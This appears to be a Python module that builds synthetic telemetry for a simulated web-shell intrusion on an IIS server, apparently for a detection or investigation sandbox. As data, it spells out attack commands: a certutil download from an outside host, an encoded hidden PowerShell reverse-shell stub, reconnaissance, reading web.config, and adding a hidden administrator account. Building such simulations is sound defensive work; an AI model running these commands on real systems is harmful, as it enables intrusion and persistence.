"""A Windows web server that was given a page of the attacker's."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from sandbox.telemetry.traces import Process
from sandbox.tenant.evidence import device, file, incident, ip

from .intrusion import Intrusion

WEB, CALLER, TOOLS = "win-1.contoso.com", "203.0.113.131", "203.0.113.130"
PAGE, PATH = r"C:\inetpub\wwwroot\intranet\uploads\thumb_02.aspx", r"c:\windows\system32\inetsrv\w3wp.exe"
TOOL = r"C:\Windows\Temp\spool64.exe"
_LOOK = "$c=New-Object Net.Sockets.TCPClient('203.0.113.130',8443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0}"


def webshell(end: datetime) -> Intrusion:
    """An upload becomes a page, the page a shell, and the shell a tool and an administrator of its own."""
    at = end - timedelta(minutes=95)

    def after(**span: int) -> datetime:
        return at + timedelta(**span)

    worker = _web("w3wp", f'{PATH} -ap "Intranet" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm3b1f')
    compiler = _web(
        "csc",
        r'csc.exe /t:library /utf8output /out:"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\intranet\5f2a\App_Web_4o1x.dll"',
        worker,
    )
    shell = _web(
        "cmd", '"cmd" /c cd /d "C:\\inetpub\\wwwroot\\intranet\\uploads"&whoami&echo [S]&cd&echo [E]', worker
    )
    fetch = _web("cmd", f'"cmd" /c certutil -urlcache -split -f http://{TOOLS}/m.txt {TOOL}', worker)
    certutil = _web("certutil", f"certutil -urlcache -split -f http://{TOOLS}/m.txt {TOOL}", fetch)
    encoded = base64.b64encode(_LOOK.encode("utf-16-le")).decode()
    powershell = _web("powershell", f"powershell -NonI -W Hidden -Exec Bypass -Enc {encoded}", worker)
    tool = Process(
        WEB, "windows", TOOL, f'{TOOL} -c "net user sqlsvc$ Qw9!tt02 /add"', r"iis apppool\intranet", worker
    )
    system = Process(WEB, "windows", "cmd", "cmd /c net user sqlsvc$ Qw9!tt02 /add", "system", tool)
    lsass = Process(WEB, "windows", "lsass", "lsass.exe", "system")
    # fmt: off
    rows = [
        Process(WEB, "windows", "System", "", "system").connected(at, CALLER, 40_112, action="InboundConnectionAccepted", local_port=443),
        worker.wrote(at, PAGE),
        compiler.started(after(seconds=40)),
        compiler.wrote(after(seconds=41), r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\intranet\5f2a\App_Web_4o1x.dll"),
        shell.started(after(minutes=1)),
        _web("whoami", "whoami", shell).started(after(minutes=1, seconds=1)),
        *(_web("cmd", f'"cmd" /c {command}', worker).started(after(minutes=2 + n)) for n, command in enumerate(("net user", "tasklist /svc", "dir C:\\inetpub", "type C:\\inetpub\\wwwroot\\intranet\\web.config"))),
        fetch.started(after(minutes=8)),
        certutil.started(after(minutes=8, seconds=1)),
        certutil.connected(after(minutes=8, seconds=2), TOOLS, 80),
        certutil.wrote(after(minutes=8, seconds=3), TOOL),
        powershell.started(after(minutes=12)),
        powershell.did(after(minutes=12, seconds=1), "AmsiScriptContent", {"ScriptContent": _LOOK}),
        *(powershell.connected(after(minutes=n), TOOLS, 8443) for n in (13, 33, 53)),
        tool.started(after(minutes=20)),
        tool.did(after(minutes=20, seconds=1), "NamedPipeEvent", {"PipeName": "\\Device\\NamedPipe\\b6f1\\pipe\\spoolss", "FileOperation": "File created", "NamedPipeEnd": "Server"}),
        system.started(after(minutes=20, seconds=2)),
        Process(WEB, "windows", "net", "net user sqlsvc$ Qw9!tt02 /add", "system", system).started(after(minutes=20, seconds=2)),
        lsass.did(after(minutes=20, seconds=3), "UserAccountCreated", AccountName="sqlsvc$", AccountDomain="win-1"),
        Process(WEB, "windows", "net", "net localgroup administrators sqlsvc$ /add", "system", system).started(after(minutes=21)),
        lsass.did(after(minutes=21, seconds=1), "UserAccountAddedToLocalGroup", {"GroupName": "Administrators", "GroupDomainName": "Builtin", "GroupSid": "S-1-5-32-544"}, AccountName="sqlsvc$", AccountDomain="win-1"),
    ]
    # fmt: on
    return Intrusion(
        "webshell",
        incident(
            4109,
            "Web shell on win-1",
            "high",
            "Persistence",
            at,
            after(minutes=21),
            device(WEB, "WindowsServer2022"),
            ip(CALLER, "suspicious"),
            file(
                WEB,
                "C:\\inetpub\\wwwroot\\intranet\\uploads\\",
                "thumb_02.aspx",
                str(rows[1][1]["SHA1"]),
                "malicious",
            ),
        ),
        rows,
    )  # fmt: skip


def _web(program: str, command: str, parent: Process | None = None) -> Process:
    return Process(WEB, "windows", program, command, r"iis apppool\intranet", parent, level="High")
